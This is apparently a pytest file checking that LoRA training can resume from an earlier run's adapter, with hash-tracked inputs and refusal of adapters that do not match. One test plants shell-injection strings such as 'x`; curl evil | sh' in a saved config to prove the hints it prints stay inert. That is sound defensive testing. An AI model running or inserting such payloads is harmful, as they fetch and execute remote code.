"""Training that goes on from an earlier run's adapter: its files are inputs by their hash, and one that does not fit is refused."""

import hashlib
import json
import subprocess

import pytest

from conf import load
from conf.problem import Problem
from remote.runs import earlier_adapter, runs
from tests.unit.remote.runs.test_runs import prepare, seal, set_state


def finished(store, run_id, **lora):
    """A finished run with the two files of an adapter."""
    seal(store, run_id)
    own = {"r": 16, "alpha": 32.0, "targets": "all-linear"} | lora
    saved = load.load(["cloud=twin", "model.id=me/base", *(f"lora.{name}={value}" for name, value in own.items())])
    saved.run_id = run_id
    store.put(f"runs/{run_id}/config.yaml", load.dump(saved).encode())
    files = {}
    for name, body in {"adapter_config.json": b"{}", "adapter_model.safetensors": b"weights"}.items():
        store.put(f"runs/{run_id}/adapter/{name}", body)
        files[f"adapter/{name}"] = {"size": len(body), "sha256": hashlib.sha256(body).hexdigest()}
    manifest = {"kind": "full", "name": "quickstart", "files": files, "seconds": {}}
    store.put(f"runs/{run_id}/manifest.json", json.dumps(manifest).encode())
    return {name.removeprefix("adapter/"): entry["sha256"] for name, entry in files.items()}


EARLIER = "20260101-000000-quickstart-0000"


def test_an_earlier_adapter_travels_by_its_hash_and_is_part_of_the_run(aws, store, settings):
    hashes = finished(store, EARLIER)
    words = ["model.id=me/base", f"lora.adapter={EARLIER}"]
    prepared = prepare(aws, settings, *words)
    assert set(hashes.values()) <= set(prepared.inputs)
    assert store.get(f"inputs/{hashes['adapter_model.safetensors']}") == b"weights"
    assert runs.saved_settings(store, prepared.run_id).run.lora.adapter_sha256 == hashes
    set_state(store, prepared.run_id, "failed")
    assert prepare(aws, settings, *words).run_id == prepared.run_id
    assert prepare(aws, settings, "model.id=me/base").run_id != prepared.run_id


@pytest.mark.parametrize(
    ("words", "what", "hint"),
    [
        (["model.id=me/other"], "trained me/base, and this run trains me/other", "model.id=me/base"),
        (["lora.r=8"], "has lora.r=16, and this run 8", "lora.r=16"),
        (["lora.targets=[q_proj,v_proj]"], r"has lora.targets=all-linear, and this run \[q_proj,v_proj\]", "lora.targets=all-linear"),
        ([f"lora.adapter={EARLIER[:-1]}1"], "there is no finished run of this name", "inv status"),
        (["lora.adapter=no-such-run"], "there is no finished run of this name", "inv status"),
    ],
)
def test_an_earlier_adapter_that_does_not_fit_is_refused_before_anything_travels(words, what, hint, aws, store, settings):
    finished(store, EARLIER)
    with pytest.raises(Problem, match=what) as caught:
        prepare(aws, settings, "model.id=me/base", f"lora.adapter={EARLIER}", *words)
    assert hint in caught.value.hint and not [name for name in store.names("runs/") if EARLIER not in name]


def words_of_a_shell(text: str) -> int:
    """How many words bash makes of this."""
    return int(subprocess.run(["bash", "-c", f"set -- {text}\necho $#"], capture_output=True, text=True, check=True).stdout)


def test_another_person_s_run_is_said_to_be_his_and_what_it_says_is_no_command(aws, store, settings, capsys):
    finished(store, EARLIER)
    saved = load.read(store.get(f"runs/{EARLIER}/config.yaml"))
    saved.provenance.owner = "arn:aws:iam::123456789012:user/eve"
    store.put(f"runs/{EARLIER}/config.yaml", load.dump(saved).encode())
    earlier_adapter.check(aws, settings("model.id=me/base", f"lora.adapter={EARLIER}"))
    assert f"run {EARLIER} is not yours: it belongs to arn:aws:iam::123456789012:user/eve" in capsys.readouterr().err
    for change in ({"id": "x`; curl evil | sh"}, {"targets": ["a'; curl evil | sh; '", "b`id`"]}):
        saved.model.id, saved.lora.targets = change.get("id", "me/base"), change.get("targets", "all-linear")
        store.put(f"runs/{EARLIER}/config.yaml", load.dump(saved).encode())
        with pytest.raises(Problem, match="trained x|has lora.targets") as refused:
            earlier_adapter.check(aws, settings("model.id=me/base", f"lora.adapter={EARLIER}"))
        assert [words_of_a_shell(command) for command in refused.value.hint.split("`")[1::2]] == [1, 1]
